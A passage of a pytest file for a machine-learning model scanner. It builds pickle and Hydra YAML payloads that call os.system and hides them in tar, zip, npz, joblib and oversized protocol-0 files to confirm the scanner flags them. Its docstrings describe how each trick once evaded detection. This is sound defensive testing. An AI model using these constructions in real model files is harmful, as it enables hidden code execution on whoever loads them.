    pickle" (info) or "large text", safe."""
    import pickletools

    data = prefix + CALL_SYSTEM
    assert [op.name for op, _, _ in pickletools.genops(data)][-3:] == ["TUPLE", "REDUCE", "STOP"]
    verdict, top, titles = _scan(tmp_path, name, data)
    assert top is Severity.CRITICAL and verdict is Verdict.MALICIOUS, titles


def test_torchscript_blank_runs_are_linear() -> None:
    """The first blank-collapsing pattern backtracked: 10,000 spaces took 5 s (found while red-teaming this fix)."""
    import time

    from mlsecure.artifacts.scan.torch_scan import scan_torchscript_code

    started = time.process_time()
    for run in (" " * 200_000, "\\\n" * 100_000, " ." * 100_000):
        assert scan_torchscript_code(run + "torch.ops . evil . op(x)")[0].evidence["namespace"] == "evil"
    assert time.process_time() - started < 2.0


# --- archive members the scanner skipped but loaders read ----------------------------------------------------

def _tar(members: dict[str, bytes], types: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.type = len(data), types.get(name, tarfile.REGTYPE)
            archive.addfile(info, io.BytesIO(data))
    return buf.getvalue()


@pytest.mark.parametrize("typeflag", [b"Z", b"8", b"A"])
@pytest.mark.parametrize("sample", ["legacy_torch", "nemo", "plain"])
def test_tar_member_of_unknown_type_is_scanned(tmp_path: Path, typeflag: bytes, sample: str) -> None:
    """tarfile's extractfile() and extract() treat a member of a type they do not know as a regular file, and
    torch.load's legacy tar path unpickled such a ``pickle`` member (checked with builtins.print); the scanner
    skipped every member whose isfile() was False: safe."""
    import pickle

    members = {
        "legacy_torch": {"sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
                         "storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
                         "tensors": pickle.dumps(0, protocol=2), "pickle": CALL_SYSTEM},
        "nemo": {"model_config.yaml": b"m:\n  _target_: os.system\n", "model_weights.ckpt": b"x"},
        "plain": {"model.pkl": CALL_SYSTEM},
    }[sample]
    target = {"legacy_torch": "pickle", "nemo": "model_config.yaml", "plain": "model.pkl"}[sample]
    verdict, top, titles = _scan(tmp_path, "model.tar", _tar(members, {target: typeflag}))
    assert top is Severity.CRITICAL and verdict is Verdict.MALICIOUS, titles


def test_zip_member_with_symlink_mode_is_still_scanned(tmp_path: Path) -> None:
    """A symlink mode in the external attributes does not stop zipfile (np.load) from reading the bytes: an object
    array there ran under np.load(allow_pickle=True) (checked) while the scan said only "symbolic link" (high):
    --fail-on critical passed it."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        info = zipfile.ZipInfo("a.npy")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, b"\x80\x02" + CALL_SYSTEM)
    verdict, top, titles = _scan(tmp_path, "weights.npz", buf.getvalue())
    assert top is Severity.CRITICAL and verdict is Verdict.MALICIOUS, titles
    assert any("symbolic link" in t for t in titles)


# --- protocol-0 text arguments over 1 MiB --------------------------------------------------------------------

@pytest.mark.parametrize("opcode", [b"V", b"S'", b"I"])
@pytest.mark.parametrize("name", ["model.pkl", "notes.txt"])
def test_long_text_argument_does_not_end_the_scan(tmp_path: Path, opcode: bytes, name: str) -> None:
    """pickle.load reads a text argument of any length; the emulator read lines up to 1 MiB and called a longer one
    malformed, which refuted the whole file as a pickle: a 2 MB ``V`` line, then ``os.system``, was "text file"
    (safe) while pickle.loads ran the call (checked with builtins.print). A real protocol-0 pickle of a large
    NumPy array (its bytes are one long ``V`` line) was "unrecognised binary data" for the same reason."""
    body = {b"V": b"a" * 2_000_000, b"S'": b"a" * 2_000_000 + b"'", b"I": b"0" * 2_000_000 + b"1"}[opcode]
    prefix = opcode + body + b"\n0"  # the argument, then POP
    verdict, top, titles = _scan(tmp_path, name, prefix + CALL_SYSTEM)
    assert top is Severity.CRITICAL and verdict is Verdict.MALICIOUS, titles


def test_long_text_argument_is_charged_to_the_memory_budget(tmp_path: Path) -> None:
    from mlsecure.artifacts.scan import Limits

    path = tmp_path / "huge_line.pkl"
    path.write_bytes(b"V" + b"a" * (3 << 20) + b"\n0" + CALL_SYSTEM)
    result = scan_file(path, limits=Limits(max_pickle_memory=1 << 20))
    assert result.max_severity is Severity.MEDIUM and result.verdict is not Verdict.SAFE, result.issues


# --- compressed streams that break after the payload ----------------------------------------------------------

@pytest.mark.parametrize("compression", ["gzip", "bz2", "xz", "zlib"])
def test_truncated_compressed_pickle_keeps_what_ran_before_the_break(tmp_path: Path, compression: str) -> None:
    """joblib.load unpickles while it decompresses: a call before a truncated tail runs, then EOFError (checked with
    builtins.print for gzip, bz2, xz and zlib). The decompression error replaced every finding, and the file was
    "compressed data that is not a pickle" (safe)."""
    import bz2
    import gzip
    import lzma
    import os
    import zlib

    compress = {"gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress, "zlib": zlib.compress}[compression]
    size = 3_000_000 if compression == "bz2" else 400_000  # bzip2 yields whole 900 kB blocks only
    payload = b"\x80\x02" + CALL_SYSTEM[:-1] + b"0B" + struct.pack("<I", size) + os.urandom(size) + b"."
    verdict, top, titles = _scan(tmp_path, "model.joblib", compress(payload)[:-5000])
    assert top is Severity.CRITICAL and verdict is Verdict.MALICIOUS, titles


def _broken_deflate_npz(array_bytes: bytes, keep: int) -> bytes:
    """An .npz whose one member inflates to ``array_bytes[:keep]`` and then hits an invalid deflate block."""
    import binascii
    import zlib

    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    data = compressor.compress(array_bytes[:keep]) + compressor.flush(zlib.Z_SYNC_FLUSH) + b"\xff" * 64
    name, crc = b"a.npy", binascii.crc32(array_bytes)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(data), len(array_bytes),
                        len(name), 0) + name
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(data),
                          len(array_bytes), len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    return local + data + central + end


@pytest.mark.parametrize("late", [False, True])
def test_zip_member_that_breaks_after_the_payload(tmp_path: Path, late: bool) -> None:
    """np.load unpickles an object array while zipfile inflates it: the call ran before "invalid block type"
    (checked with builtins.print), while the scan said only "member cannot be read" (high): --fail-on critical
    passed. What inflates before the break is scanned now, salvaged byte by byte at the break."""
    import os

    header = b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(127) + b"\n"
    filler = b"B" + struct.pack("<I", 100_000) + os.urandom(100_000) + b"0"  # BINBYTES, POP
    call = CALL_SYSTEM[:-1] + b"0"  # the call, then POP (no STOP: the stream breaks later)
    tail = b"B" + struct.pack("<I", 100_000) + os.urandom(100_000) + b"."
    body = b"\x80\x02" + (filler + call if late else call + filler) + tail
    keep = len(header) + 2 + len(filler) + len(call)
    verdict, top, titles = _scan(tmp_path, "weights.npz", _broken_deflate_npz(header + body, keep + 10))
    assert top is Severity.CRITICAL and verdict is Verdict.MALICIOUS, titles
    assert any("cannot be read" in t for t in titles)


def test_issue_kinds_are_the_reported_ones(tmp_path: Path) -> None:
    result = scan_file(_write(tmp_path / "m.yaml", HYDRA_YAML.format(target="os.system")))
    assert any(i.kind is IssueKind.DANGEROUS_IMPORT for i in result.issues)


def _write(path: Path, text: str) -> Path:
    path.write_text(text)
    return path
